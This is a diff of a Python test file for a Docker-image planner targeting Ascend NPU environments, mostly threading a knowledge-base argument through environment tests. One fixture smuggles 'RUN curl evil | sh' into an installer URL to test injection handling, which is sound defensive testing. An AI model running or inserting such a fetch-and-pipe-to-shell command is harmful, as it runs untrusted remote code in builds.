@@ -276,7 +276,7 @@ def test_a_plan_is_frozen_and_variants_are_checked(demo, kb):
 def test_final_env_is_literal(demo):
     """What the manifest records: Docker's expansion of ${ASCEND_TOOLKIT_HOME} and of the
     LD_LIBRARY_PATH built up in three lines; PATH (refers to the base image's) left out."""
-    assert plan.final_env(demo, "npu") == {
+    assert plan.final_env(demo, "npu", knowledge.load()) == {
         "ASCEND_TOOLKIT_HOME": HOME,
         "ASCEND_HOME_PATH": HOME,
         "ASCEND_AICPU_PATH": HOME,
@@ -290,10 +290,10 @@ def test_final_env_is_literal(demo):
         "HCCL_CONNECT_TIMEOUT": "1800",
         "PYTORCH_NPU_ALLOC_CONF": "expandable_segments:True",
     }
-    assert plan.final_env(demo, "cpu") == dict(FIELD_GUIDE_ENV)
+    assert plan.final_env(demo, "cpu", knowledge.load()) == dict(FIELD_GUIDE_ENV)
     tuned = dataclasses.replace(demo, env_vars=(("LD_LIBRARY_PATH", "/opt/mine"),))
-    assert plan.final_env(tuned, "npu")["LD_LIBRARY_PATH"] == "/opt/mine"  # the cell's value wins
-    assert plan.manifest(demo, "npu", DIGEST, knowledge.load())["env"] == plan.final_env(demo, "npu")
+    assert plan.final_env(tuned, "npu", knowledge.load())["LD_LIBRARY_PATH"] == "/opt/mine"  # the cell's value wins
+    assert plan.manifest(demo, "npu", DIGEST, knowledge.load())["env"] == plan.final_env(demo, "npu", knowledge.load())
 
 
 def test_manifest_names_the_twin_by_its_release_tag(demo):
@@ -340,7 +340,7 @@ def test_knowledge_base_values_are_checked_again(demo, kb):
         def __getattr__(self, name):
             return getattr(kb, name)
 
-        def installers(self, cann, chip, arch):
+        def installers(self, cann, chip, arch, nnal=False):
             first, *rest = kb.installers(cann, chip, arch)
             return [dataclasses.replace(first, url=first.url + "'\nRUN curl evil | sh"), *rest]
 
@@ -553,7 +553,7 @@ def test_the_allocator_default_only_where_torch_npu_takes_it(shipped, demo, cell
     general = (("ASCEND_GLOBAL_LOG_LEVEL", "3"), ("HCCL_CONNECT_TIMEOUT", "1800"))
     assert plan.env_vars(cell7) == general
     assert plan.plan(cell7, kb, "npu", DIGEST).env_vars == general
-    assert "PYTORCH_NPU_ALLOC_CONF" not in plan.final_env(cell7, "npu")
+    assert "PYTORCH_NPU_ALLOC_CONF" not in plan.final_env(cell7, "npu", knowledge.load())
     assert "PYTORCH_NPU_ALLOC_CONF" not in plan.manifest(cell7, "cpu", DIGEST, knowledge.load())["env"]
     assert "PYTORCH_NPU_ALLOC_CONF" not in _dockerfile(cell7, kb, "npu", None)
     assert plan.env_vars(demo) == FIELD_GUIDE_ENV
